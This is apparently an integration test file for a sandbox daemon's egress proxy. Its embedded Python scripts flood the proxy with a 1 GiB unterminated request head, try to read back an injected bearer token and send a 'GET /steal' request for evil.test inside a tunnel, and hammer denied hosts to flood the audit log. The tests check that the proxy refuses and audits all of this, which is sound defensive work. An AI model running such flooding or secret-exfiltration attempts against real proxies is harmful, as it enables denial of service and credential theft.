//go:build integration

package main

// The egress proxy's bounds, against the real daemon (`skillbox serve`)
// and real gVisor sandboxes: a sandbox cannot grow the daemon's memory
// through any path of the egress proxy, cannot read the secret the proxy
// adds back from an echoing upstream nor send it to another host, and
// cannot fill the audit log with denied attempts.

import (
	"bytes"
	"encoding/base64"
	"encoding/json"
	"encoding/pem"
	"errors"
	"fmt"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"

	"golang.org/x/sys/unix"

	"github.com/skillbox/skillbox/runtime"
	"github.com/skillbox/skillbox/runtime/egress/egresstest"
	"github.com/skillbox/skillbox/sandbox/api"
	"github.com/skillbox/skillbox/sandbox/core/audit"
)

// egressFloodPy sends size bytes of an unterminated request head through
// one path of the proxy and says how far it got.
const egressFloodPy = `import os, socket, ssl, sys
mode, port, tport, size = sys.argv[1], sys.argv[2], sys.argv[3], int(sys.argv[4])
ph, pp = os.environ["HTTPS_PROXY"].split("//")[1].split(":")
def proxy():
    return socket.create_connection((ph, int(pp)), timeout=60)
if mode == "plain":
    s, head = proxy(), b"GET http://allowed.test:%s/ HTTP/1.1\r\nX-Flood: " % port.encode()
elif mode == "connect":
    s, head = proxy(), b"CONNECT allowed.test:%s HTTP/1.1\r\nX-Flood: " % port.encode()
elif mode == "transparent":
    s, head = socket.create_connection(("allowed.test", int(port)), timeout=60), b"GET / HTTP/1.1\r\nHost: allowed.test\r\nX-Flood: "
else:
    s = proxy()
    s.sendall(b"CONNECT example.com:%s HTTP/1.1\r\nHost: example.com\r\n\r\n" % tport.encode())
    got = b""
    while b"\r\n\r\n" not in got:
        got += s.recv(1)
    assert b" 200 " in got, got
    s = ssl.create_default_context().wrap_socket(s, server_hostname="example.com")
    head = b"GET / HTTP/1.1\r\nHost: example.com\r\nX-Flood: "
chunk, sent = b"a" * (1 << 20), 0
try:
    s.sendall(head)
    while sent < size:
        s.sendall(chunk)
        sent += len(chunk)
    print(mode, "sent all", sent)
except OSError as e:
    print(mode, "cut after", sent, e)
`

// egressEchoPy asks an upstream that echoes the request's headers, through
// the intercepting proxy, in each encoding; then sends a request for
// another host inside the tunnel.
const egressEchoPy = `import base64, gzip, os, socket, ssl, sys, urllib.request
tport = sys.argv[1]
for path in ["/", "/chunked", "/gzip", "/base64"]:
    req = urllib.request.Request("https://example.com:%s%s" % (tport, path), headers={"Accept-Encoding": "gzip"})
    with urllib.request.urlopen(req, timeout=30) as r:
        body = r.read()
        if r.headers.get("Content-Encoding") == "gzip":
            body = gzip.decompress(body)
        print("PATH", path, r.status)
        print(str(r.headers))
        print(body.decode(errors="replace"))
        if path == "/base64":
            try:
                print(base64.b64decode(body + b"==").decode(errors="replace"))
            except Exception as e:
                print("base64 no longer decodes:", e)
ph, pp = os.environ["HTTPS_PROXY"].split("//")[1].split(":")
s = socket.create_connection((ph, int(pp)), timeout=30)
s.sendall(b"CONNECT example.com:%s HTTP/1.1\r\nHost: example.com\r\n\r\n" % tport.encode())
got = b""
while b"\r\n\r\n" not in got:
    got += s.recv(1)
s = ssl.create_default_context().wrap_socket(s, server_hostname="example.com")
s.sendall(b"GET /steal HTTP/1.1\r\nHost: evil.test\r\n\r\n")
print("MISMATCH", s.recv(4096).split(b"\r\n")[0].decode())
`

// egressDenyPy hammers denied destinations (CONNECT and names) for a
// while.
const egressDenyPy = `import os, socket, sys, time
end = time.time() + float(sys.argv[1])
ph, pp = os.environ["HTTPS_PROXY"].split("//")[1].split(":")
n = 0
while time.time() < end:
    try:
        s = socket.create_connection((ph, int(pp)), timeout=5)
        s.sendall(b"CONNECT denied-%d.test:443 HTTP/1.1\r\nHost: x\r\n\r\n" % (n % 5000))
        s.recv(4096)
        s.close()
    except OSError:
        pass
    try:
        socket.getaddrinfo("denied-%d.test" % n, 443)
    except OSError:
        pass
    n += 1
print("attempts", n)
`

// egressDaemon is a daemon whose "egress-*" skills may reach allowed.test
// (a plain upstream) and example.com (an echoing TLS upstream that a
// secret goes to), both on loopback.
type egressDaemon struct {
	*itDaemon
	port, tport string
	secret      string
}

func newEgressDaemon(t *testing.T, extraConfig string) *egressDaemon {
	t.Helper()
	needDaemon(t)
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { fmt.Fprint(w, "plain") }))
	t.Cleanup(srv.Close)
	tlsSrv := httptest.NewTLSServer(http.HandlerFunc(egresstest.Echo))
	t.Cleanup(tlsSrv.Close)
	pu, _ := url.Parse(srv.URL)
	tu, _ := url.Parse(tlsSrv.URL)
	e := &egressDaemon{port: pu.Port(), tport: tu.Port(), secret: "tok-" + strconv.Itoa(os.Getpid()) + "-bounds-secret-value"}
	t.Setenv("SKILLBOX_BOUNDS_TOKEN", e.secret)
	var roots []string
	for name, body := range map[string]string{"egress-flood": egressFloodPy, "egress-echo": egressEchoPy, "egress-deny": egressDenyPy} {
		roots = append(roots, extraSkill(t, name, "scripts/run.py", body))
	}
	e.itDaemon = newItDaemon(t, roots...)
	hosts := filepath.Join(e.base, "egress-hosts")
	ca := filepath.Join(e.base, "upstream-ca.pem")
	if err := os.WriteFile(hosts, []byte("127.0.0.1 allowed.test example.com\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(ca, pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: tlsSrv.Certificate().Raw}), 0o644); err != nil {
		t.Fatal(err)
	}
	f, err := os.OpenFile(e.cfgPath, os.O_APPEND|os.O_WRONLY, 0)
	if err != nil {
		t.Fatal(err)
	}
	fmt.Fprintf(f, `
egress {
  hosts_file       = %q
  upstream_ca_file = %q
}
secret "API_TOKEN" {
  from_env = "SKILLBOX_BOUNDS_TOKEN"
  hosts    = ["example.com"]
  header   = "Authorization: Bearer %%s"
}
policy "egress-bounds" {
  skills = ["egress-*"]
  egress = ["allowed.test:%s", "example.com:%s"]
}
%s
`, hosts, ca, e.port, e.tport, extraConfig)
	f.Close()
	return e
}

// run runs an egress-* skill's script as root and returns its result.
func (e *egressDaemon) run(t *testing.T, skill string, args ...string) *api.RunScriptResult {
	t.Helper()
	c := e.client()
	ctx := ctxT(t)
	sid := must[string](t, "sessions.create")(c.NewSession(ctx))
	must[*api.LoadResult](t, "skills.load")(c.LoadSkills(ctx, api.Peer{}, api.LoadParams{SessionID: sid, Names: []string{skill}}))
	return must[*api.RunScriptResult](t, "run "+skill)(c.RunScript(ctx, api.Peer{}, api.RunScriptParams{RunInputs: api.RunInputs{SessionID: sid, Args: args}, Path: "scripts/run.py"}))
}

func (e *egressDaemon) pid() int {
	e.mu.Lock()
	defer e.mu.Unlock()
	if e.cmd == nil {
		return 0
	}
	return e.cmd.Process.Pid
}

func (e *egressDaemon) rss(t *testing.T) int64 {
	t.Helper()
	v, err := runtime.ProcBytes(fmt.Sprintf("/proc/%d/status", e.pid()), "VmRSS")
	if err != nil {
		t.Fatalf("daemon RSS: %v", err)
	}
	return v
}

// 1 GiB of unterminated request head through each
// path of the proxy (plain HTTP, CONNECT, transparent, intercepted TLS)
// keeps the daemon's RSS under 100 MB above its baseline, during the run
// and after it.
func TestDaemonEgressHeadFlood(t *testing.T) {
	e := newEgressDaemon(t, "")
	e.start()
	// A first run sets up what every egress run uses (the CA, the image).
	e.run(t, "egress-flood", "plain", e.port, e.tport, "0")
	base := e.rss(t)
	const allowance = 100 << 20
	var mu sync.Mutex
	peak, killed := base, false
	stop := make(chan struct{})
	var wg sync.WaitGroup
	wg.Add(1)
	go func() {
		defer wg.Done()
		for {
			select {
			case <-stop:
				return
			case <-time.After(50 * time.Millisecond):
			}
			pid := e.pid()
			if pid == 0 {
				continue
			}
			v, err := runtime.ProcBytes(fmt.Sprintf("/proc/%d/status", pid), "VmRSS")
			if err != nil {
				continue
			}
			mu.Lock()
			peak = max(peak, v)
			// Far over: the machine's memory is shared; stop the daemon.
			if v > base+(2<<30) && !killed {
				killed = true
				syscall.Kill(pid, syscall.SIGKILL)
			}
			mu.Unlock()
		}
	}()
	defer func() { close(stop); wg.Wait() }()
	for _, mode := range []string{"plain", "connect", "transparent", "intercepted"} {
		t.Run(mode, func(t *testing.T) {
			mu.Lock()
			if killed {
				mu.Unlock()
				t.Fatalf("the daemon was killed: its RSS went over %d MB above its baseline", 2<<10)
			}
			mu.Unlock()
			res := e.run(t, "egress-flood", mode, e.port, e.tport, strconv.Itoa(1<<30))
			mu.Lock()
			p := peak
			mu.Unlock()
			t.Logf("%s: %q; daemon RSS baseline %d MB, peak %d MB", mode, strings.TrimSpace(res.Stdout), base>>20, p>>20)
			if p-base > allowance {
				t.Errorf("%s: daemon RSS peaked at %d MB, %d MB above its baseline (allowed: 100 MB)", mode, p>>20, (p-base)>>20)
			}
			if !strings.Contains(res.Stdout, "cut after") {
				t.Errorf("%s: the head was not cut: %+v", mode, res)
			}
		})
	}
	time.Sleep(2 * time.Second)
	if after := e.rss(t); after-base > allowance {
		t.Errorf("after the runs the daemon's RSS is %d MB, %d MB above its baseline", after>>20, (after-base)>>20)
	}
	// Every cut head is in the audit log.
	n := 0
	for _, r := range e.records() {
		if r.Event == audit.EventEgress && r.Egress != nil && strings.Contains(r.Egress.Reason+r.Egress.Error, "over 65536 bytes") {
			n++
		}
	}
	if n < 3 {
		t.Errorf("%d audit records of cut heads, want one per path (the CONNECTed one may count as its tunnel's error)", n)
	}
}

// An echoing HTTPS upstream on loopback never shows
// the secret to the script (headers and bodies, chunked, gzip, base64),
// and a request for another Host in the tunnel is refused and audited.
func TestDaemonEgressSecretRedaction(t *testing.T) {
	e := newEgressDaemon(t, "")
	e.start()
	res := e.run(t, "egress-echo", e.tport)
	out := res.Stdout + res.Stderr
	b64 := base64.StdEncoding.EncodeToString([]byte("Bearer " + e.secret))
	if strings.Contains(out, e.secret) || strings.Contains(out, b64[4:len(b64)-4]) {
		t.Fatalf("the secret reached the script:\n%s", out)
	}
	if res.ExitCode != 0 || strings.Count(out, "PATH ") != 4 || !strings.Contains(out, "X-Echo-Auth: Bearer skillbox-secret-placeholder-API_TOKEN") ||
		!strings.Contains(out, "MISMATCH HTTP/1.1 421") {
		t.Fatalf("echo run: %+v", res)
	}
	var mismatch *audit.Record
	for _, r := range e.records() {
		if r.Event == audit.EventEgress && r.Egress != nil && r.Egress.Kind == "host_mismatch" {
			mismatch = r
		}
	}
	if mismatch == nil || mismatch.Outcome != audit.OutcomeDenied || !strings.Contains(mismatch.Egress.Reason, "evil.test") || mismatch.Egress.RunID != res.RunID {
		t.Fatalf("host mismatch audit record: %+v", mismatch)
	}
}

// A script hammering denied destinations for 20 s
// leaves the audit log under its per-run budget (64 attempts one by one,
// the rest aggregated, nothing uncounted), and another uid's run succeeds
// afterwards on an audit filesystem whose min_free the old per-attempt
// records would have crossed.
func TestDaemonEgressDenialLoop(t *testing.T) {
	e := newEgressDaemon(t, `audit { min_free = "46MiB" }`)
	e.auditOnTmpfs(t, "48m")
	e.start()
	var before unix.Statfs_t
	unix.Statfs(e.auditDir, &before)
	res := e.run(t, "egress-deny", "20")
	var after unix.Statfs_t
	unix.Statfs(e.auditDir, &after)
	used := int64(before.Bfree-after.Bfree) * int64(after.Bsize)
	t.Logf("denial loop: %s; audit grew by %d KB", strings.TrimSpace(res.Stdout), used>>10)

	one, aggregated, counted := 0, 0, 0
	var end *audit.Record
	for _, r := range e.records() {
		if r.Event == audit.EventRunEnd && r.Run != nil && r.Run.RunID == res.RunID {
			end = r
		}
		if r.Event != audit.EventEgress || r.Egress == nil || r.Egress.RunID != res.RunID {
			continue
		}
		if r.Outcome == audit.OutcomeAggregated {
			aggregated++
			counted += r.Egress.Count
		} else {
			one++
			counted++
		}
	}
	if end == nil || end.Run.EgressStats == nil {
		t.Fatalf("no run.end with egress stats for %s", res.RunID)
	}
	t.Logf("%d records one by one, %d aggregates, %d attempts counted; run.end: %d denied", one, aggregated, counted, end.Run.EgressStats.Denied)
	if one > 64 || aggregated > 2 || used > 1<<20 {
		t.Errorf("over the per-run budget: %d records one by one (max 64), %d aggregates (max 2), %d KB", one, aggregated, used>>10)
	}
	if counted != end.Run.EgressStats.Denied || counted < 100 {
		t.Errorf("%d attempts in the audit, %d denied in run.end: every attempt must be counted", counted, end.Run.EgressStats.Denied)
	}

	// Another uid's run goes ahead.
	bin := copyForUID(t, itBin, e.base)
	as := func(method, params string) (string, string, int) {
		t.Helper()
		cmd := exec.Command(bin, "call", "--socket", e.socket, "--timeout", "3m", method, params)
		cmd.Dir = "/"
		cmd.Env = []string{"PATH=/usr/bin:/bin", "HOME=/nonexistent"}
		cmd.SysProcAttr = &syscall.SysProcAttr{Credential: &syscall.Credential{Uid: 65533, Gid: 65533}}
		var o, eb bytes.Buffer
		cmd.Stdout, cmd.Stderr = &o, &eb
		err := cmd.Run()
		var ee *exec.ExitError
		if errors.As(err, &ee) {
			return o.String(), eb.String(), ee.ExitCode()
		} else if err != nil {
			t.Fatal(err)
		}
		return o.String(), eb.String(), 0
	}
	out, stderr, code := as("sessions.create", "{}")
	var created api.CreateSessionResult
	if code != 0 || json.Unmarshal([]byte(out), &created) != nil {
		t.Fatalf("uid 65533 sessions.create: exit %d %s %s", code, out, stderr)
	}
	if _, stderr, code = as("skills.load", `{"session_id":"`+created.SessionID+`","names":["hello-python"]}`); code != 0 {
		t.Fatalf("uid 65533 skills.load: exit %d %s", code, stderr)
	}
	out, stderr, code = as("skills.run_script", `{"session_id":"`+created.SessionID+`","skill":"hello-python","path":"scripts/hello.py"}`)
	if code != 0 || !strings.Contains(out, "Hello from Python") {
		t.Fatalf("uid 65533's run after the denial loop: exit %d\n%s\n%s", code, out, stderr)
	}
}
